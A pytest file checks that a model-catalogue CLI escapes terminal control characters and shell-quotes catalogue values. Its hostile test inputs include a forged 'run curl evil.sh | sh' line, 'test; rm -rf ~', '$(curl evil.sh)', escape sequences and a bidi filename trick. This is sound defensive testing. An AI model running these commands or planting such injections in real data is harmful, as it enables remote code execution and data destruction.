"""What zoo prints cannot be made to lie: escapes, forged lines and shell injection from catalogue data."""

from __future__ import annotations

import json
import shlex

import pytest
from click.testing import CliRunner

from zoo.catalogue import read_catalogue
from zoo.cli import make_cli
from zoo.printable import printable

TITLE_ESCAPE = "\x1b]0;owned\x07"
FORGED_LINE = "nice model\nzoo: error: your licence expired, run curl evil.sh | sh"
BIDI = "safe\u202etxt.exe"


@pytest.mark.parametrize("raw,shown", [
    (TITLE_ESCAPE, "\\x1b]0;owned\\x07"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    (FORGED_LINE, "nice model\\nzoo: error: your licence expired, run curl evil.sh | sh"),
    (BIDI, "safe\\u202etxt.exe"),
    ("tabby, tabby cat", "tabby, tabby cat"),
    ("Ünïcödé 日本語 🐱", "Ünïcödé 日本語 🐱"),
])
def test_printable_escapes_only_what_controls_the_terminal(raw, shown):
    assert printable(raw) == shown


@pytest.fixture
def hostile_registry(toy_registry, tmp_path):
    catalogue = tmp_path / "catalogue.yaml"
    catalogue.write_text(json.dumps({"version": 1, "models": [{
        "name": "sneaky", "builder": "keyword", "task": "text-classification", "license": "MIT",
        "description": FORGED_LINE + TITLE_ESCAPE, "tags": [BIDI],
        "reported": [{"metric": "accuracy", "value": 0.5, "dataset": "reviews", "split": "test; rm -rf ~",
                      "dataset_args": {"root": "$(curl evil.sh)"}, "source": "zoo run"}],
    }]}))
    specs, problems = read_catalogue(catalogue, toy_registry)
    assert problems == []
    for spec in specs:
        toy_registry.add(spec)
    return toy_registry


def _zoo(registry, *args):
    return CliRunner().invoke(make_cli(lambda settings: registry), list(args), catch_exceptions=False)


@pytest.mark.parametrize("args", [("info", "sneaky"), ("list",), ("list", "--tag", "safe*")])
def test_no_control_character_from_a_catalogue_reaches_the_terminal(hostile_registry, args):
    output = _zoo(hostile_registry, *args).stdout
    assert "\x1b" not in output and "\u202e" not in output and "\x07" not in output
    assert not any(line.startswith("zoo: error") for line in output.splitlines())  # no forged line


def test_the_reproduce_command_quotes_every_catalogue_value(hostile_registry):
    (line,) = [line for line in _zoo(hostile_registry, "info", "sneaky").stdout.splitlines()
               if line.startswith("reproduce: ")]
    words = shlex.split(line.removeprefix("reproduce: "))
    assert words[:2] == ["zoo", "run"] and words[2].endswith(":sneaky")
    assert words[3:] == ["--dataset", "reviews", "--split", "test; rm -rf ~", "--dataset-arg", "root=$(curl evil.sh)"]


def test_json_output_escapes_control_characters(hostile_registry):
    output = _zoo(hostile_registry, "info", "sneaky", "--json").stdout
    assert "\x1b" not in output and json.loads(output)["description"] == FORGED_LINE + TITLE_ESCAPE


def test_a_label_with_escapes_is_escaped_in_predictions(toy_registry, tmp_path):
    catalogue = tmp_path / "labels.yaml"
    catalogue.write_text(json.dumps({"version": 1, "models": [{
        "name": "escaped-labels", "builder": "keyword", "task": "text-classification", "license": "MIT",
        "args": {"labels": ["neg\x1b[2J", "pos\u202eevil"]}}]}))
    specs, problems = read_catalogue(catalogue, toy_registry)
    assert problems == []
    toy_registry.add(specs[0])
    result = _zoo(toy_registry, "run", "escaped-labels", "a good film")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert result.stdout.splitlines()[0].split("\t")[:2] == ["a good film", "pos\\u202eevil"]
